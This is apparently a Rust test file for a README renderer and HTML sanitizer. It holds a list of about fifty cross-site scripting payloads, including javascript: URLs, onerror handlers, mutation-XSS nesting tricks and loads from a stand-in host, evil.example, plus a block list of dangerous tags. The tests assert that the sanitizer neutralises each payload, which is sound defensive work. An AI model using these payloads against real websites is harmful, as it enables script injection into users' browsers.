use super::*;
use proptest::prelude::*;

const LINKS: Links<'static> = Links {
    files: "/r/files/abc",
    raw: "/r/raw/abc",
    directory: "",
};

fn markdown(text: &str) -> String {
    let html = render("README.md", text, &LINKS).expect("Markdown is rendered");
    let inner = html
        .strip_prefix("<div class=\"markdown\">")
        .and_then(|html| html.strip_suffix("</div>"));
    inner
        .expect("one element around it all")
        .trim_end()
        .to_owned()
}

#[test]
fn kinds_by_name() {
    let cases = [
        ("README.md", Some(Kind::Markdown)),
        ("doc/a.MARKDOWN", Some(Kind::Markdown)),
        ("README.rst", Some(Kind::Rst)),
        ("README", Some(Kind::Plain)),
        ("notes.txt", Some(Kind::Plain)),
        ("cmd.rs", None),
        ("LICENSE", None),
    ];
    for (name, expected) in cases {
        assert_eq!(kind(name), expected, "{name}");
    }
    assert_eq!(render("cmd.rs", "x", &LINKS), None);
}

#[test]
fn plain_text_is_preformatted() {
    assert_eq!(
        render("a.txt", "a <b> & \"c\"\n", &LINKS).as_deref(),
        Some("<pre class=\"plain\">\na &lt;b&gt; &amp; \"c\"\n</pre>")
    );
    assert_eq!(
        render("a.rst", "x", &LINKS).as_deref(),
        Some("<pre class=\"rst\">\nx</pre>")
    );
}

#[test]
fn headings_have_ids_and_links_to_themselves() {
    assert_eq!(
        markdown("# A b"),
        "<h1 id=\"user-content-a-b\">A b<a href=\"#user-content-a-b\" aria-label=\"Link to heading 'A b'\" class=\"anchor\" rel=\"nofollow noopener\"></a></h1>"
    );
}

#[test]
fn the_dialect_has_tables_strikes_tasks_and_bare_addresses() {
    let html =
        markdown("|a|b|\n|-|-:|\n|c|d|\n\n~~e~~ https://example.com/f\n\n- [x] g\n- [ ] h\n");
    assert!(html.contains("<td align=\"right\">d</td>"), "{html}");
    assert!(
        html.contains("<del>e</del> <a href=\"https://example.com/f\" rel=\"nofollow noopener\">"),
        "{html}"
    );
    assert_eq!(html.matches("type=\"checkbox\"").count(), 2, "{html}");
    assert_eq!(html.matches("checked").count(), 1, "{html}");
}

#[test]
fn footnotes_lead_to_each_other() {
    let html = markdown("a[^n]\n\n[^n]: b");
    assert!(
        html.contains("href=\"#user-content-fn-n\"") && html.contains("id=\"user-content-fn-n\""),
        "{html}"
    );
    assert!(
        html.contains("href=\"#user-content-fnref-n\"")
            && html.contains("id=\"user-content-fnref-n\""),
        "{html}"
    );
}

#[test]
fn code_blocks_are_highlighted() {
    assert_eq!(
        markdown("```python\nx = 1 # <b>\n```"),
        "<pre class=\"code-highlight\"><code>x <span class=\"o\">=</span> <span class=\"m\">1</span> <span class=\"c\"># &lt;b&gt;</span>\n</code></pre>"
    );
    assert_eq!(
        markdown("    a <b>\n"),
        "<pre class=\"code-highlight\"><code>a &lt;b&gt;\n</code></pre>"
    );
}

#[test]
fn links_and_images_lead_into_the_repository() {
    assert_eq!(
        markdown("[a](doc/b.md) ![c](d.png)"),
        "<p><a href=\"/r/files/abc/doc/b.md\" rel=\"nofollow noopener\">a</a> <img src=\"/r/raw/abc/d.png\" alt=\"c\"></p>"
    );
}

#[test]
fn harmless_html_is_kept() {
    assert_eq!(
        markdown(
            "<p align=\"center\"><kbd>x</kbd></p>\n\n<details><summary>s</summary>t</details>"
        ),
        "<p align=\"center\"><kbd>x</kbd></p>\n<details><summary>s</summary>t</details>"
    );
}

#[test]
fn ids_names_and_classes_cannot_clash_with_the_page() {
    assert_eq!(
        sanitize("<p id=x class='btn note'>", &LINKS),
        "<p id=\"user-content-x\" class=\"note\"></p>"
    );
    assert_eq!(
        sanitize("<a name=x>", &LINKS),
        "<a name=\"user-content-x\" rel=\"nofollow noopener\"></a>"
    );
}

#[test]
fn inputs_are_boxes() {
    assert_eq!(
        sanitize(
            "<input type=image src=//evil.example name=x formaction=x onfocus=y autofocus>",
            &LINKS
        ),
        "<input aria-label=\"task\" type=\"checkbox\">"
    );
}

/// HTML as attackers write it. Each line is one attempt.
const ATTACKS: &str = r#"<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img/src="x"/onerror=alert(1)>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml;base64,PHN2Zz4=">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="vbscript:x">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="x" onclick=alert(1) style="position:fixed;inset:0">x</a>
<div style="background:url(javascript:alert(1))">x</div>
<style>@import '//evil.example/x.css';</style>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href=//evil.example/>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<svg onload=alert(1)></svg>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<template><script>alert(1)</script></template>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video><source onerror=alert(1)></video>
<body onload=alert(1)>
<input onfocus=alert(1) autofocus>
<textarea><script>alert(1)</script></textarea>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<p title='"><img src=x onerror=alert(1)>'>x</p>
<a href="http://x" target=_blank rel=opener>x</a>
<img srcset="//evil.example/x 1x" src=x>
[x](javascript:alert(1))
[x](<javascript:alert(1)>)
![x](javascript:alert(1))
[x]: javascript:alert(1)
<javascript:alert(1)>
```<script>alert(1)</script>
# <img src=x onerror=alert(1)>
[x](x "onmouseover=alert(1)")
`<script>`"#;

/// The elements and attributes of HTML, told apart by hand: every attribute value written here stands in double quotes.
fn assert_harmless(html: &str, attack: &str) {
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        let mut quoted = false;
        let end = rest[open..].find(|c| {
            quoted ^= c == '"';
            c == '>' && !quoted
        });
        let tag = &rest[open + 1..open + end.expect("every tag ends")];
        assert_tag(tag, attack);
        rest = &rest[open + tag.len() + 2..];
    }
}

fn assert_tag(tag: &str, attack: &str) {
    let name = tag
        .trim_start_matches('/')
        .split([' ', '>'])
        .next()
        .unwrap_or("");
    let bad = [
        "script", "style", "svg", "math", "iframe", "object", "embed", "form", "button", "link",
        "meta", "base", "template", "textarea",
    ];
    assert!(
        !bad.contains(&name) && name.chars().all(|c| c.is_ascii_alphanumeric()),
        "{attack} gave <{tag}>"
    );
    // Outside of the values only names are left.
    let names: String = tag.split('"').step_by(2).collect();
    for attribute in names
        .split([' ', '='])
        .filter(|word| !word.is_empty())
        .skip(1)
    {
        assert!(
            !attribute.starts_with("on")
                && attribute != "style"
                && attribute != "srcset"
                && attribute != "target",
            "{attack} gave <{tag}>"
        );
    }
    for address in ["href=\"", "src=\""]
        .iter()
        .filter_map(|name| tag.split_once(name))
        .map(|(_, value)| value)
    {
        let ours = [
            "/r/files/abc/",
            "/r/raw/abc/",
            "#",
            "http://",
            "https://",
            "mailto:",
        ];
        assert!(
            ours.iter().any(|start| address.starts_with(start)),
            "{attack} gave <{tag}>"
        );
    }
}

#[test]
fn attacks_come_out_harmless() {
    for attack in ATTACKS.lines() {
        for html in [markdown(attack), sanitize(attack, &LINKS)] {
            assert_harmless(&html, attack);
            // What is safe stays so when it is read and cleaned again: no second meaning appears. (Paths get their base again.)
            let again = sanitize(&html, &LINKS);
            let unbased = |html: &str| html.replace(LINKS.files, "").replace(LINKS.raw, "");
            assert_eq!(unbased(&again), unbased(&html), "{attack}");
        }
    }
}

#[test]
fn scripts_are_dropped_with_their_text_and_unknown_elements_without() {
    assert_eq!(
        markdown("a <script>b</script> <font>c</font>"),
        "<p>a  c</p>"
    );
}

#[test]
fn nesting_that_takes_too_long_is_shown_as_text() {
    let text = "<ul><li>".repeat(40_000);
    let html = render("a.md", &text, &LINKS).expect("Markdown is rendered");
    assert!(html.starts_with("<pre class=\"plain\">\n&lt;ul"));
}

#[test]
fn ordinary_nesting_is_rendered() {
    assert!(markdown(&">".repeat(100)).contains("<blockquote>"));
    assert!(sanitize(&"<div>".repeat(100), &LINKS).starts_with("<div><div>"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]
    #[test]
    fn mixed_attacks_come_out_harmless(picked in proptest::collection::vec(0..ATTACKS.lines().count(), 1..4), cut in 0..80usize) {
        let lines: Vec<&str> = ATTACKS.lines().collect();
        let mut attack: String = picked.iter().map(|&line| lines[line]).collect();
        if attack.is_char_boundary(cut.min(attack.len())) {
            attack = attack.split_off(cut.min(attack.len()));
        }
        assert_harmless(&markdown(&attack), &attack);
        assert_harmless(&sanitize(&attack, &LINKS), &attack);
    }
}
